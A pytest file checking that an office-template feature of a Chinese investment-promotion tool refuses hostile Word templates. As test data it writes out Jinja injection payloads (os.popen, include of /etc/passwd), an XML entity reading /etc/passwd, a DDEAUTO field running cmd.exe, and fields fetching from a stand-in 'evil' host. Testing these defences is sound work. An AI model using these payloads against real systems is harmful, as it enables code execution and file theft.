"""Templates of an office: a closed list of fields in a sandbox; hostile ones are refused before they are opened."""

from __future__ import annotations

import io
import zipfile
from collections.abc import Callable
from dataclasses import replace
from pathlib import Path
from types import SimpleNamespace
from typing import cast

import pytest
from docx import Document
from docx.oxml import OxmlElement
from docx.oxml.ns import qn

import liantu
from liantu.district.workspaces import create_workspace
from liantu.exchange.paper.office_templates import TEMPLATE_FIELDS, check_template, fill_template
from liantu.exchange.paper.office_templates.safety import sandbox
from liantu.model.change import Change
from liantu.model.problems import Problems
from liantu.papers import PaperRequest, add_template, make_paper, remove_template, requested_paper_bytes
from liantu.papers.brief import brief_paper
from liantu.papers.office_templates import SERVER_FOLDER, fill_office_template, keep_template
from liantu.store.commit import ChangeEntry
from liantu.store.workspace import Workspace

FULING = Path(__file__).parents[3] / "districts" / "fuling"
KIND = "brief-outward"


def template(*lines: str) -> bytes:
    document = Document()
    for line in lines:
        document.add_paragraph(line)
    return save(document)


def save(document: object) -> bytes:
    stream = io.BytesIO()
    document.save(stream)  # type: ignore[attr-defined]
    return stream.getvalue()


def with_part(name: str, content: bytes, *, replace: tuple[bytes, bytes] | None = None, where: str = "") -> bytes:
    """A template with one more part, or with bytes of a part exchanged."""
    made = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(template("{{ title }}"))) as old, zipfile.ZipFile(made, "w") as new:
        for part in old.namelist():
            data = old.read(part)
            new.writestr(part, data.replace(*replace) if replace and part == where else data)
        if name:
            new.writestr(name, content)
    return made.getvalue()


def with_field(instruction: str) -> bytes:
    document = Document()
    paragraph = document.add_paragraph("{{ title }}")
    text = OxmlElement("w:instrText")
    text.text = instruction
    paragraph.add_run()._r.append(text)
    return save(document)


def with_simple_field(instruction: str) -> bytes:
    document = Document()
    field = OxmlElement("w:fldSimple")
    field.set(qn("w:instr"), instruction)
    document.add_paragraph("{{ title }}")._p.append(field)
    return save(document)


def with_field_in_field(inner: str) -> bytes:
    """A field that begins with the result of the field within it."""
    document = Document()
    run = document.add_paragraph("{{ title }}").add_run()._r
    for kind, text in (("begin", ""), ("begin", ""), ("", inner), ("end", ""), ("", "http://evil/x"), ("end", "")):
        piece = OxmlElement("w:fldChar" if kind else "w:instrText")
        if kind:
            piece.set(qn("w:fldCharType"), kind)
        piece.text = text
        run.append(piece)
    return save(document)


def with_document_called(name: str, content: bytes) -> bytes:
    """A template whose text stands in a part of another name, which is all that Word needs to find it."""
    made = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(content)) as old, zipfile.ZipFile(made, "w") as new:
        for part in old.namelist():
            data = old.read(part).replace(b"word/document.xml", f"word/{name}".encode())
            new.writestr(part.replace("document.xml", name), data)
    return made.getvalue()


def with_object(tag: str) -> bytes:
    document = Document()
    document.add_paragraph("{{ title }}")._p.append(OxmlElement(tag))
    return save(document)


RELS = "word/_rels/document.xml.rels"
EXTERNAL = (
    b'<Relationship Id="rId99" Type="http://x/attachedTemplate" Target="http://evil/t.dotm" TargetMode="External"/>'
)
HOSTILE: dict[str, tuple[Callable[[], bytes], str]] = {
    "attribute": (lambda: template("{{ title.__class__.__mro__ }}"), "template_code"),
    "attribute without an underscore": (lambda: template("{{ title.upper }}"), "template_code"),
    "item": (lambda: template("{{ title['__class__'] }}"), "template_code"),
    "call": (lambda: template("{{ title() }}"), "template_code"),
    "globals": (lambda: template("{{ cycler.__init__.__globals__.os.popen('id').read() }}"), "template_code"),
    "known global": (lambda: template("{{ cycler }}"), "template_field"),
    "self": (lambda: template("{{ self }}"), "template_field"),
    "filter": (lambda: template("{{ title|attr('__class__') }}"), "template_code"),
    "arithmetic": (lambda: template("{{ 9 ** 9 ** 9 }}"), "template_code"),
    "multiplied": (lambda: template("{{ title * 1000000000 }}"), "template_code"),
    "loop": (lambda: template("{% for a in title %}x{% endfor %}"), "template_code"),
    "include": (lambda: template("{% include '/etc/passwd' %}"), "template_code"),
    "import": (lambda: template("{% import 'os' as os %}{{ title }}"), "template_code"),
    "comment": (lambda: template("{# hidden #}{{ title }}"), "template_code"),
    "unclosed": (lambda: template("{{ title"), "template_code"),
    "unknown field": (lambda: template("{{ contract_price }}"), "template_field"),
    "no field": (lambda: template("A letterhead"), "template_without_fields"),
    "block in a sentence": (lambda: template("See {{ section_missing }} here"), "template_field_alone"),
    "macros": (lambda: with_part("word/vbaProject.bin", b"x"), "template_unsafe"),
    "macro type": (
        lambda: with_part(
            "", b"", where="[Content_Types].xml", replace=(b"wordprocessingml.document.main", b"macroEnabled.main")
        ),
        "template_unsafe",
    ),
    "embedded object": (lambda: with_part("word/embeddings/oleObject1.bin", b"x"), "template_unsafe"),
    "active control": (lambda: with_part("word/activeX/activeX1.xml", b"<a/>"), "template_unsafe"),
    "template outside": (
        lambda: with_part("", b"", where=RELS, replace=(b"</Relationships>", EXTERNAL + b"</Relationships>")),
        "template_unsafe",
    ),
    "entity": (
        lambda: with_part("word/extra.xml", b'<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>'),
        "xml_entities",
    ),
    "field that runs": (
        lambda: with_field('DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc"'),
        "template_unsafe",
    ),
    "field that fetches": (lambda: with_field('INCLUDETEXT "http://evil/x"'), "template_unsafe"),
    "field in a part without an ending": (
        lambda: with_document_called("text", with_field('INCLUDETEXT "http://evil/x"')),
        "template_unsafe",
    ),
    "field in a part called a picture": (
        lambda: with_document_called("text.PNG", with_field('INCLUDETEXT "http://evil/x"')),
        "template_unsafe",
    ),
    "chunk of another file": (lambda: with_object("w:altChunk"), "template_unsafe"),
    "object": (lambda: with_object("w:object"), "template_unsafe"),
    "field that reads another document": (lambda: with_simple_field("RD http://evil/x.docx"), "template_unsafe"),
    "field of an unknown kind": (lambda: with_simple_field("FETCHANYTHING x"), "template_unsafe"),
    "field named by another": (lambda: with_field_in_field(' QUOTE "INCLUDETEXT" '), "template_unsafe"),
    "no archive": (lambda: b"PK\x03\x04 cut off", "template_not_word"),
    "text": (lambda: b"hello", "template_not_word"),
}


@pytest.mark.parametrize("name", HOSTILE)
def test_a_hostile_template_is_refused(name: str) -> None:
    make, code = HOSTILE[name]
    with pytest.raises(Problems) as refused:
        check_template(make(), KIND, "t.docx")
    assert {problem.code for problem in refused.value.problems} == {code}


@pytest.mark.parametrize("instruction", ["PAGE", " numpages \\* MERGEFORMAT ", 'TOC \\o "1-3"', "SEQ table \\* ARABIC"])
def test_a_field_of_the_document_itself_is_taken(instruction: str) -> None:
    check_template(with_simple_field(instruction), KIND, "t.docx")
    check_template(with_field(instruction), KIND, "t.docx")


def test_the_sandbox_has_nothing_to_reach() -> None:
    environment = sandbox()
    assert (environment.globals, environment.filters, environment.tests) == ({}, {}, {})


def test_a_field_in_pieces_and_in_the_head_of_a_page_is_seen() -> None:
    """Word cuts a text into runs where it likes: the field is what stands in the paragraph."""
    document = Document()
    paragraph = document.add_paragraph()
    for piece in ("{{ ti", "tle.__cla", "ss__ }}"):
        paragraph.add_run(piece)
    with pytest.raises(Problems):
        check_template(save(document), KIND, "t.docx")
    document = Document()
    document.add_paragraph("{{ title }}")
    document.sections[0].header.paragraphs[0].text = "{{ secret }}"
    with pytest.raises(Problems):
        check_template(save(document), KIND, "t.docx")


@pytest.mark.parametrize("kind", TEMPLATE_FIELDS)
def test_every_field_of_the_list_is_taken(kind: str) -> None:
    check_template(template(*(f"{{{{ {field} }}}}" for field in TEMPLATE_FIELDS[kind])), kind, "t.docx")


def test_a_template_is_filled_with_words_and_tables() -> None:
    report = brief_paper(liantu.open(FULING), "electrolyte", "zh_CN", "outward")
    document = Document()
    document.add_heading("{{ title }}")
    document.add_paragraph("某区招商局（{{ version }}）")
    document.add_paragraph("{{ section_missing }}")
    document.add_paragraph("{{ foot }}")
    filled = Document(io.BytesIO(fill_template(save(document), report, KIND, "t.docx")))
    texts = [paragraph.text for paragraph in filled.paragraphs]
    assert texts[0] == "锂电池电解液项目招商简报"
    assert filled.paragraphs[0].style.name == "Heading 1"
    assert "某区招商局（对外版）" in texts
    assert any("9.36" in cell.text for table in filled.tables for row in table.rows for cell in row.cells)
    assert not [text for text in texts if "{{" in text]
    assert filled.core_properties.author == "链图"
    body = filled.element.body
    assert body[-1].tag == qn("w:sectPr")


def test_a_workspace_prints_by_its_own_template_until_it_is_removed(tmp_path: Path) -> None:
    place = str(tmp_path / "fuling.db")
    create_workspace(place, FULING, ChangeEntry("tester", "init", "", ""))
    path = tmp_path / "ours.docx"
    path.write_bytes(template("某区招商局", "{{ title }}"))
    request = PaperRequest("brief", product="electrolyte", version="outward")
    add_template(place, KIND, path)
    district = liantu.open(place)
    first = Document(io.BytesIO(requested_paper_bytes(district, request, "docx", "zh_CN"))).paragraphs[0].text
    assert first == "某区招商局"
    path.write_bytes(template("{{ title.x }}"))
    with pytest.raises(Problems):
        add_template(place, KIND, path)
    remove_template(place, KIND)
    first = Document(io.BytesIO(requested_paper_bytes(district, request, "docx", "zh_CN"))).paragraphs[0].text
    assert first == "锂电池电解液项目招商简报"


def test_templates_of_a_database_on_a_server_stand_in_a_folder_of_the_server(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """One folder a database, named by the deployment; without it papers are printed as the program does."""
    place = "postgresql://office:secret@db.example/fuling?sslmode=require"
    district = liantu.open(FULING)
    paper = make_paper(district, "weak")
    served = replace(district, workspace=cast("Workspace", SimpleNamespace(place=place)))
    monkeypatch.delenv(SERVER_FOLDER, raising=False)
    with pytest.raises(Problems) as refused:
        keep_template(place, "weak", "t.docx", template("{{ title }}"))
    assert [problem.code for problem in refused.value.problems] == ["no_template_place"]
    assert "secret" not in refused.value.problems[0].message("zh")
    assert fill_office_template(served, paper, "weak") is None
    monkeypatch.setenv(SERVER_FOLDER, str(tmp_path))
    kept = keep_template(place, "weak", "t.docx", template("某区", "{{ table }}"))
    assert kept == tmp_path / "fuling" / "weak.docx"
    filled = fill_office_template(served, paper, "weak")
    assert filled is not None
    texts = [paragraph.text for paragraph in Document(io.BytesIO(filled)).paragraphs]
    assert texts[0] == "某区"
    assert Document(io.BytesIO(filled)).tables
    for other in ("postgresql://db.example/..", "postgresql://db.example/"):
        with pytest.raises(Problems):
            keep_template(other, "weak", "t.docx", template("{{ title }}"))


def test_a_paper_says_what_it_is_whatever_its_template_leaves_out() -> None:
    """Of a scenario, in the house, of an example, computed: at the head of its pages; sources and no promise below."""
    fuling = liantu.open(FULING)
    change = Change.from_query(("capacities:rept-cell;amount=25;unit=GWh/年",))
    views = {"internal": fuling.what_if(change), "outward": fuling}
    own = Document()
    own.add_paragraph("我区补链研判")
    own.add_paragraph("{{ section_missing }}")
    own.add_section()  # its pages have the head of those before
    for version, view in views.items():
        report = brief_paper(view, "electrolyte", "zh_CN", version)
        content = fill_template(save(own), report, f"brief-{version}", "t.docx")
        document = Document(io.BytesIO(content))
        head = "".join(paragraph.text for paragraph in document.sections[0].header.paragraphs)
        text = "".join(paragraph.text for paragraph in document.paragraphs)
        assert all(words in head for words in ("示例", "测算数，非统计数据"))
        assert ("情景" in head) == (version == "internal")
        assert "数据来源" in text
        assert ("内部使用" in head) == (version == "internal")
        assert ("不构成采购承诺" in text) == (version == "outward")
        assert document.sections[1].header.is_linked_to_previous
    whole = template(*(f"{{{{ {field} }}}}" for field in TEMPLATE_FIELDS[KIND]))
    filled = Document(io.BytesIO(fill_template(whole, report, KIND, "t.docx")))
    assert not any(paragraph.text for paragraph in filled.sections[0].header.paragraphs)
    assert "".join(paragraph.text for paragraph in filled.paragraphs).count("数据来源") == 1
